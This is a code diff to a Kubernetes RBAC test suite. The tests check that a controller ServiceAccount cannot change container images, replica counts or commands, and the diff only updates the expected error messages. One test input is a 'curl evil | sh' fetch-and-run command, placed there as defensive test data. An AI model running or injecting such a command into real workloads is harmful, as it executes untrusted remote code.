@@ -107,14 +107,14 @@ describe("controller ServiceAccount: least privilege from the chart", () => {
     const image = await patch(containers({ image: "registry.invalid/evil:1" }));
     expect(image.code).not.toBe(0);
     expect(image.stderr).toMatch(
-      /may change only container resources, not image/,
+      /may change only container resources, not app \(image\)/,
     );
     const replicas = await patch({ spec: { replicas: 10 } });
-    expect(replicas.stderr).toMatch(/may not scale workloads/);
+    expect(replicas.stderr).toMatch(/may not change spec.replicas/);
     const command = await patch(
       containers({ command: ["sh", "-c", "curl evil | sh"] }),
     );
-    expect(command.stderr).toMatch(/not command/);
+    expect(command.stderr).toMatch(/not app \(command\)/);
     const admin = await kubectl([
       "patch",
       "deployment",
